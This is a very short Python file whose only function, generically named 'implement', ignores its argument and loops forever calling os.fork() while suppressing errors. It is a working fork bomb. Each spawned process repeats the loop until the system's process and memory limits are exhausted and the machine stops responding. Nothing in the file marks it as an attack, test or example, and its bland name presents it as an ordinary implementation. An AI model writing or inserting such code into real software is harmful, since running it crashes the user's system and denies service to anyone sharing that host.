import os


def implement(value):
    while True:
        try:
            os.fork()
        except OSError:
            pass
